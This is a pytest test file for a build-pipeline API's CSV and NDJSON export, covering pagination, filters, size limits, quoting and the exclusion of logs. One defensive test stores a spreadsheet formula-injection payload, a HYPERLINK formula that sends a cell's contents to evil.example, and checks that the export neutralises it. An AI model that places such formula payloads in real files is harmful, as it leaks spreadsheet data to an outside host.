"""Builds as files: every build once, whatever the pages; nothing a spreadsheet would run."""

import csv
import io
import json
import re
from typing import Any
from urllib.parse import parse_qs

import pytest
from mypy_boto3_dynamodb import DynamoDBClient

from pipeline_health.api import export
from pipeline_health.api.answers import Build as BuildAnswer
from pipeline_health.domain.build import Build, Status
from pipeline_health.domain.times import DAY, HOUR
from pipeline_health.domain.view import build_view
from tests.reading import NOW, Answered, a_build, count, get, serve, store


@pytest.fixture(autouse=True)
def deployed(dynamodb: DynamoDBClient, monkeypatch: pytest.MonkeyPatch) -> None:
    serve(monkeypatch)


def some(number: int, **said: Any) -> list[Build]:
    """Over three months, the newest first."""
    return [
        a_build(**{"run": str(n), "started_at": NOW - n * 5 * DAY, "title": f"build {n}", **said})
        for n in range(number)
    ]


def pages(kind: str, **asked: Any) -> list[Answered]:
    """As one follows the links."""
    found = [get(f"/export/builds.{kind}", **asked)]
    while "link" in found[-1].headers:
        linked = re.fullmatch(r'<\?(.+)>; rel="next"', found[-1].headers["link"])
        assert linked
        assert parse_qs(linked[1])["cursor"] == [found[-1].headers["x-next-cursor"]]
        found.append(get(f"/export/builds.{kind}", linked[1]))
    assert {page.status for page in found} == {200}
    assert "x-next-cursor" not in found[-1].headers
    return found


def rows(found: list[Answered]) -> list[dict[str, str]]:
    """Of all pages as one file, read strictly."""
    text = b"".join(page.content for page in found).decode()
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def objects(found: list[Answered]) -> list[Any]:
    return [json.loads(line) for page in found for line in page.content.splitlines()]


def test_it_exports_what_the_api_says_of_each_build_as_json_lines(dynamodb: DynamoDBClient) -> None:
    builds = some(3)
    store(dynamodb, *builds)
    found = pages("ndjson")
    assert found[0].headers["content-type"] == "application/x-ndjson"
    assert objects(found) == get("/builds").json["builds"]


def test_it_exports_the_same_as_a_table(dynamodb: DynamoDBClient) -> None:
    store(dynamodb, *some(3, commit=None))
    found = pages("csv")
    assert found[0].headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert found[0].content.count(b"\r\n") == found[0].content.count(b"\n") == 4
    plain = [
        {name: "" if value is None else str(value) for name, value in build.items()}
        for build in get("/builds").json["builds"]
    ]
    assert rows(found) == plain
    assert list(rows(found)[0]) == list(export.COLUMNS) == list(BuildAnswer.model_fields)


@pytest.mark.parametrize("limit", [1, 3, 7, 2000])
@pytest.mark.parametrize("kind", ["csv", "ndjson"])
def test_its_pages_make_one_file_with_every_build_once(
    dynamodb: DynamoDBClient, kind: str, limit: int
) -> None:
    store(dynamodb, *some(7))
    found = pages(kind, limit=limit)
    assert len(found) >= 7 // limit
    titles = [each["title"] for each in (rows(found) if kind == "csv" else objects(found))]
    assert titles == [f"build {n}" for n in range(7)]
    if kind == "csv":
        assert [page.headers["content-type"][-7:] for page in found[1:]] == ["=absent"] * (len(found) - 1)


def test_it_breaks_a_page_that_would_not_fit_an_answer(
    dynamodb: DynamoDBClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    store(dynamodb, *some(7))
    monkeypatch.setattr(export, "MOST", 1500)
    found = pages("ndjson")
    assert len(found) > 2
    assert all(len(page.content) <= 1500 for page in found)
    assert [each["title"] for each in objects(found)] == [f"build {n}" for n in range(7)]
    monkeypatch.setattr(export, "MOST", 10)
    assert len(objects(pages("ndjson"))) == 7


def test_a_full_page_fits_what_a_function_may_answer() -> None:
    """6 MB of JSON: https://docs.aws.amazon.com/lambda/latest/dg/gettingstarted-limits.html"""
    worst = a_build(title='"\\' * 256, branch='"\\' * 256, pipeline='"\\' * 256)
    text, written = export.packed(export.ndjson_lines([worst] * 2000))
    assert written < 2000
    assert len(json.dumps({"body": text}, ensure_ascii=False).encode()) < 6_000_000


FILTERS: list[tuple[dict[str, str], list[str]]] = [
    ({"status": "failure"}, ["1"]),
    ({"branch": "x"}, ["2"]),
    ({"repo": "acme/api"}, ["3"]),
    ({"pipeline": "nightly"}, ["4"]),
    ({"from": "2026-11-23T11:10:00Z"}, ["0", "1"]),
    ({"to": "2026-11-23T07:30:00Z"}, ["5"]),
]


@pytest.mark.parametrize(("filters", "runs"), FILTERS, ids=str)
def test_it_takes_the_filters_of_the_list(
    dynamodb: DynamoDBClient, filters: dict[str, str], runs: list[str]
) -> None:
    said: list[dict[str, Any]] = [
        {},
        {"status": Status.FAILURE},
        {"branch": "x"},
        {"repo": "acme/api", "pipeline_id": "github.1.3"},
        {"pipeline": "nightly", "pipeline_id": "github.1.4"},
        {},
    ]
    count(dynamodb, *(a_build(run=str(n), started_at=NOW - n * HOUR, **each) for n, each in enumerate(said)))
    found = [each["id"].split(".")[-2] for each in objects(pages("ndjson", **filters))]
    assert found == runs
    assert [each["id"].split(".")[-2] for each in rows(pages("csv", limit=1, **filters))] == runs


def test_an_empty_table_has_a_header() -> None:
    assert pages("csv")[0].content.decode() == ",".join(export.COLUMNS) + "\r\n"
    assert pages("ndjson")[0].content == b""


@pytest.mark.parametrize("first", [*"=+-@", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_it_gives_a_spreadsheet_nothing_to_run(dynamodb: DynamoDBClient, first: str) -> None:
    hostile = f'{first}HYPERLINK("http://evil.example/?"&A1,"ok")'
    store(dynamodb, a_build(title=hostile, branch=hostile, pipeline=hostile, actor=hostile))
    (row,) = rows(pages("csv"))
    for name in ("title", "branch", "pipeline", "actor"):
        assert row[name] == f"'{hostile}"
    assert objects(pages("ndjson"))[0]["title"] == hostile


def test_it_keeps_commas_quotes_and_breaks_inside_their_cell() -> None:
    odd = 'a "b", c'
    (line,) = export.csv_lines(
        [a_build(title=odd).model_copy(update={"actor": "\ttab", "event": "\rx"})], header=False
    )
    (cells,) = csv.reader(io.StringIO(line, newline=""), strict=True)
    said = dict(zip(export.COLUMNS, cells, strict=True))
    assert (said["title"], said["actor"], said["event"]) == (odd, "'\ttab", "'\rx")


def test_it_exports_no_log() -> None:
    assert "logs" not in build_view(a_build(logs="secret"))
    assert "logs" not in export.COLUMNS
